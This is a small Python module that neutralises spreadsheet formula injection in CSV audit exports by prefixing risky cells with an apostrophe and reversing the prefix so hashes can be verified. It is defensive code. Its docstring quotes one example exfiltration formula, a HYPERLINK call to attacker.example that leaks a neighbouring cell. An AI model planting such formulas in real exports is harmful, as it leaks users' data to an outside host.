"""CSV cells that a spreadsheet cannot evaluate, and back. Standard library only (the offline verifier uses it).

Compliance officers open audit exports in spreadsheets, which evaluate a cell starting with `=`, `+`, `-`,
`@`, a tab or a carriage return as a formula (`=HYPERLINK("http://attacker.example/?"&B2, ...)` leaks the
row next to it). Every text cell the service writes into a CSV goes through `neutralise`: such a cell is
prefixed with an apostrophe, which spreadsheets show as text. So that the change can be undone exactly, a
cell that already starts with an apostrophe gets one more. `restore` removes exactly one leading apostrophe,
giving back the stored value bit for bit: the offline verifier restores every cell before recomputing the
hashes, so a neutralised export verifies like the JSON Lines one (the hash covers the stored value, never
the CSV cell).
"""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"


def neutralise(value) -> str:
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) or text.startswith(PREFIX):
        return PREFIX + text
    return text


def restore(cell: str) -> str:
    return cell[1:] if cell.startswith(PREFIX) else cell
